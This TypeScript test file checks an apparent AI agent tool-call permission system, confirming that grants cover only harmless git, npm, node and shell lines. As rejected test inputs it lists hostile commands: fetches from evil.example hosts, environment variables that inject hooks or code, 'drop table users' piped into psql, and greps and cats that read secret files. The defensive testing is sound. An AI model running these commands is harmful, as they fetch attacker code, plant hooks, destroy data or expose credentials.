import { gitCommandsPattern } from '@countersign/protocol';
import { describe, expect, it } from 'vitest';
import { splitExample } from './command/split-example.test-data.ts';
import { grantCovers } from './grant.test-data.ts';
import { type GrantedCall, type GrantPredicate, ruleOfGrant } from './grant.ts';
import { readPolicyFile } from './policy-rules.ts';
import { ToolCallPolicy } from './tool-call-policy.ts';

const policy = new ToolCallPolicy({ root: '/work' });
const grant: GrantPredicate = {
  tool: 'write_file',
  pattern: 'src/**',
  max_risk: 'MEDIUM',
  session_id: 'session',
  workspace: '/work',
  expires_at: 1_000,
};
const here: GrantedCall = { sessionId: 'session', workspace: '/work', risk: 'MEDIUM', now: 999 };

function covers(path: string, over: Partial<GrantPredicate> = {}, at: Partial<GrantedCall> = {}): boolean {
  const { call, details } = policy.decide('write_file', { path, content: 'x' });
  if (!call || !details) throw new Error('not a call');
  return grantCovers({ ...grant, ...over }, call, details, { ...here, ...at });
}

describe('[AP-4] a grant', () => {
  it('covers what its predicate says', () => {
    expect([covers('src/a.ts'), covers('src/deep/a.ts'), covers('docs/a.md', { pattern: null })]).toEqual([
      true,
      true,
      true,
    ]);
  });

  it.each<[string, string, Partial<GrantPredicate>, Partial<GrantedCall>]>([
    ['another path', 'docs/a.md', {}, {}],
    ['another tool', 'src/a.ts', { tool: 'edit_file' }, {}],
    ['another session', 'src/a.ts', {}, { sessionId: 'other' }],
    ['another workspace', 'src/a.ts', {}, { workspace: '/work/sub' }],
    ['more risk than it was made for', 'src/a.ts', {}, { risk: 'HIGH' }],
    ['anything after its time', 'src/a.ts', {}, { now: 1_000 }],
    [
      'a place that executes later',
      '.vscode/tasks.json',
      { pattern: null, max_risk: 'HIGH' },
      { risk: 'HIGH' },
    ],
    ['what is refused', '../outside.ts', { pattern: null }, {}],
    ['anything by a pattern that does not compile', 'src/a.ts', { pattern: '{a,b}'.repeat(9) }, {}],
  ])('does not cover %s', (_, path, over, at) => {
    expect(covers(path, over, at)).toBe(false);
  });

  it('is a rule of commands for tools that run them, and of paths for all others', () => {
    expect(ruleOfGrant('x', { tool: 'shell_exec', pattern: 'npm test *' })).toMatchObject({
      command: 'npm test *',
    });
    expect(ruleOfGrant('x', { tool: 'write_file', pattern: 'a' })).toMatchObject({ path: 'a' });
    expect(ruleOfGrant('x', { tool: '*', pattern: null })).toEqual({ id: 'x', effect: 'allow', tool: '*' });
  });
});

describe('[AP-4] a grant by program', () => {
  function coversLine(pattern: string | null, line: string, over: Partial<GrantPredicate> = {}): boolean {
    const [command, ...args] = splitExample(line);
    const { call, details } = policy.decide('execute_command', { command, args });
    if (!call || !details || details.verdict.decision === 'REJECT') throw new Error('not a call');
    const predicate = { ...grant, tool: 'execute_command', pattern, max_risk: 'HIGH' as const, ...over };
    return grantCovers(predicate, call, details, { ...here, risk: details.verdict.decision });
  }

  it.each([
    ['git *', 'git commit -m x'],
    ['git *', 'git log --no-merges'],
    ['git commit *', 'git commit -am x'],
    ['npm *', 'npm test'],
    ['npm run *', 'npm run lint -- --fix'],
    ['node *', 'node --test'],
    ['python3 *', 'python3 -m pytest -q tests'],
    [null, 'git status'],
  ])('%s covers %s', (pattern, line) => {
    expect(coversLine(pattern, line)).toBe(true);
  });

  it.each([
    ['git *', 'git config --get user.name'],
    ['git config *', 'git config --list'],
    ['git *', 'git push origin main'],
    ['git *', 'git reset --hard'],
    ['git *', 'git fetch https://example.com/x.git'],
    ['git *', 'git log --output=x'],
    ['git log *', 'git log --output=x'],
    ['git *', 'git clone https://example.com/x.git docs/x'],
    ['git *', 'git -C docs status'],
    ['npm *', 'npm publish'],
    ['npm *', 'npm install express'],
    ['npm *', 'npm exec cowsay'],
    ['npm run *', 'npm run deploy'],
    ['node *', 'node --test --test-reporter=./x.js'],
    ['python3 *', 'python3 -m http.server'],
    ['tar *', 'tar -czf x.tgz docs'],
    [null, 'npm publish'],
  ])('%s leaves to the person: %s', (pattern, line) => {
    expect(coversLine(pattern, line)).toBe(false);
  });

  function coversShell(pattern: string | null, command: string, over: Partial<GrantPredicate> = {}): boolean {
    const { call, details } = policy.decide('shell_exec', { command });
    if (!call || !details || details.verdict.decision === 'REJECT') throw new Error('not a call');
    const predicate = { ...grant, tool: 'shell_exec', pattern, max_risk: 'HIGH' as const, ...over };
    return grantCovers(predicate, call, details, { ...here, risk: details.verdict.decision });
  }

  it.each([
    ['npm *', 'NODE_ENV=test npm test'],
    ['git *', 'LC_ALL=C git log'],
    ['git *', 'X=5; git log -$X'],
    ['npm test', 'CI=1 npm test'],
  ])('%s covers a line with harmless variables: %s', (pattern, line) => {
    expect(coversShell(pattern, line)).toBe(true);
  });

  it.each([
    ['git *', 'GIT_TRACE=$PWD/.git/hooks/pre-commit git status'],
    ['git *', 'GIT_INDEX_FILE=x git add .'],
    ['git *', 'export GIT_ALLOW_PROTOCOL=ext; git fetch'],
    ['npm *', 'NPM_CONFIG_NODE_OPTIONS=--require=./x.js npm test'],
    ['npm *', 'TMPDIR=.git/hooks; npm test'],
    ['npm *', 'declare -x DATABASE_URL=x; npm test'],
    ['npm *', 'set -a; X=1; npm test'],
    ['npm test', 'DATABASE_URL=x npm test'],
    ['node *', 'NODE_V8_COVERAGE=.git node src/app.js'],
    ['python3 *', 'PYTEST_ADDOPTS=-pevil python3 -m pytest'],
    ['python3 *', 'python3 -u -- - x < docs/notes.txt'],
  ])('%s leaves a line to the person that sets other variables or reads its code: %s', (pattern, line) => {
    expect(coversShell(pattern, line)).toBe(false);
  });

  it.each([
    'cat docs/q.sql | psql app',
    'psql app < docs/q.sql',
    "psql app <<< 'drop table users'",
    '{ ls; psql app; } < docs/q.sql',
    "echo 'drop table users' | (cat; psql app)",
    'psql app && cat docs/q.sql | psql app',
  ])('for exactly one command does not cover it with other input: %s', (line) => {
    expect(coversShell('psql app', 'psql app')).toBe(true);
    expect(coversShell('psql app', line)).toBe(false);
  });

  it('for exactly one command covers a reader of any text input, but no list or script from its input', () => {
    expect(coversShell('sort -u', 'sort -u < docs/a.txt')).toBe(true);
    expect(coversShell('sed -n 1,5p', 'sed -n 1,5p < docs/a.txt')).toBe(true);
    expect(coversShell('sort --files0-from=-', 'sort --files0-from=- < docs/a.txt')).toBe(false);
    expect(coversShell('sed -f -', 'sed -f - < docs/a.txt')).toBe(false);
    expect(coversShell('git apply', 'git apply < docs/a.patch')).toBe(false);
  });

  it.each([
    'git clone https://evil.example/x',
    'git ls-remote https://evil.example/x',
    'pnpm add x --registry=https://evil.example',
    'mvn test -Dx=https://evil.example',
    'npm ci && mvn test -Dx=https://evil.example',
  ])('[RN-5] for everything does not cover a host that no card showed: %s', (line) => {
    const everything = { tool: '*', max_risk: 'MEDIUM' } as const;
    expect(coversShell(null, 'npm ci && mvn test', everything)).toBe(true);
    expect(coversShell(null, line, everything)).toBe(false);
  });

  it('[VA-2] leaves to the person what prints folders without masks', () => {
    expect(coversShell('grep *', 'grep -n KEY docs/a.md')).toBe(true);
    expect(coversShell('grep *', 'grep -rn KEY .')).toBe(false);
    expect(coversShell('cat *', 'cat .??*')).toBe(false);
    const everything = { tool: '*', max_risk: 'MEDIUM' } as const;
    expect(coversShell(null, 'cat docs/a.md; npm test', everything)).toBe(true);
    for (const line of ['grep -rn KEY . && npm test', 'cat .??*; npm test', 'find . -type f -exec cat {} +'])
      expect({ line, covers: coversShell(null, line, everything) }).toEqual({ line, covers: false });
  });

  it('covers what is on no list where it spells out that line, and only that line', () => {
    expect(coversLine('npm install express', 'npm install express')).toBe(true);
    expect(coversLine('npm install express', 'npm install expres')).toBe(false);
    expect(coversLine('npm install \\*', "npm install '*'")).toBe(true);
    expect(coversLine('npm install *', 'npm install express')).toBe(false);
    expect(coversLine('npm install {express,x}', 'npm install express')).toBe(false);
  });

  it('does not affect grants of everything in a session, or rules that a person wrote', () => {
    expect(coversLine(null, 'npm install express', { tool: '*' })).toBe(true);
    const rules = [{ id: 'mine', effect: 'allow', tool: 'execute_command', command: 'npm *' }];
    const decide = (rule: object) => {
      const file = JSON.stringify({ version: 1, rules: rules.map((each) => ({ ...each, ...rule })) });
      const reading = readPolicyFile(file, 'person');
      if (!reading.ok) throw new Error(reading.problem);
      const own = new ToolCallPolicy({ root: '/work', policies: [reading.policy] });
      return own.decide('execute_command', { command: 'npm', args: ['install', 'express'] }).verdict.decision;
    };
    expect([decide({}), decide({ harmless_only: true })]).toEqual(['LOW', 'MEDIUM']);
    expect(decide({ harmless_only: true, effect: 'deny' })).toBe('REJECT');
  });
});

describe('[AP-4] a grant of git commands (founding documents: tools-specification)', () => {
  const git = { ...grant, tool: gitCommandsPattern, pattern: 'git *', max_risk: 'HIGH' as const };
  function coversCall(tool: string, params: object): boolean {
    const { call, details } = policy.decide(tool, params);
    if (!call || !details || details.verdict.decision === 'REJECT') throw new Error('not a call');
    return grantCovers(git, call, details, { ...here, risk: details.verdict.decision });
  }

  it.each<[string, object]>([
    ['git_commit', { message: 'x', files: ['src/a.ts'] }],
    ['git_branch', { name: 'next', create: true }],
    ['execute_command', { command: 'git', args: ['commit', '-m', 'x'] }],
    ['shell_exec', { command: 'git add -A && git commit -m x' }],
    ['shell_exec', { command: 'git add -A', cwd: './' }],
  ])('covers %s %j', (tool, params) => {
    expect(coversCall(tool, params)).toBe(true);
  });

  it.each<[string, object]>([
    ['git_push', {}],
    ['execute_command', { command: 'git', args: ['push'] }],
    ['execute_command', { command: 'git', args: ['config', '--list'] }],
    ['execute_command', { command: 'git', args: ['hook', 'run', 'pre-commit'] }],
    ['execute_command', { command: 'git', args: ['reset', '--hard'] }],
    ['execute_command', { command: 'npm', args: ['test'] }],
    ['shell_exec', { command: 'git commit -m x && npm test' }],
    ['shell_exec', { command: 'git log > log.md' }],
    ['shell_exec', { command: 'git add -A', cwd: 'vendor/x' }],
    ['write_file', { path: 'a.md', content: 'x' }],
    ['git_commit', { message: 'x', files: ['src/a.ts', '.husky/pre-commit'] }],
    ['git_commit', { message: 'x', files: ['.github/workflows/ci.yml'] }],
  ])('leaves to the person: %s %j', (tool, params) => {
    expect(coversCall(tool, params)).toBe(false);
  });

  it('is the same as a rule of a policy file, and only where that rule is about harmless commands', () => {
    const rule = ruleOfGrant('mine', git);
    expect(rule).toEqual({
      id: 'mine',
      effect: 'allow',
      tool: gitCommandsPattern,
      command: 'git *',
      harmless_only: true,
    });
    const decide = (written: object) => {
      const reading = readPolicyFile(JSON.stringify({ version: 1, rules: [written] }), 'person');
      if (!reading.ok) throw new Error(reading.problem);
      const own = new ToolCallPolicy({ root: '/work', policies: [reading.policy] });
      return own.decide('git_commit', { message: 'x', files: ['a.md'] }).verdict.decision;
    };
    expect([decide(rule), decide({ ...rule, harmless_only: false })]).toEqual(['LOW', 'MEDIUM']);
  });
});

describe('[RN-5] a host that a running command asks for', () => {
  const hostCovered = (over: Partial<GrantPredicate>, host = 'api.example.org'): boolean => {
    const { call, details } = policy.decide('reach_host', { host, tool_id: 't1' });
    if (!call || !details) throw new Error('not a call');
    return grantCovers({ ...grant, ...over }, call, details, here);
  };

  it('is covered by a grant for that host alone', () => {
    const pattern = 'reach api.example.org';
    expect(hostCovered({ tool: 'reach_host', pattern })).toBe(true);
    for (const host of ['example.org', 'api.example.org:8443', 'evil.api.example.org', 'api.example.com'])
      expect(hostCovered({ tool: 'reach_host', pattern }, host)).toBe(false);
  });

  it('is covered by no grant and no rule on everything', () => {
    for (const tool of ['*', 'reach_host'])
      for (const scope of ['session', 'mode', 'always'] as const)
        expect(hostCovered({ tool, pattern: null, scope })).toBe(false);
    const rules = ['*', 'reach_host'].map((tool) => ({ id: tool, effect: 'allow', tool, max_risk: 'HIGH' }));
    const read = readPolicyFile(JSON.stringify({ version: 1, rules }), 'person');
    if (!read.ok) throw new Error(read.problem);
    const own = new ToolCallPolicy({ root: '/work', policies: [read.policy] });
    const decide = (host: string) => own.decide('reach_host', { host, tool_id: 't1' }).verdict.decision;
    expect(decide('api.example.org')).toBe('MEDIUM');
  });
});
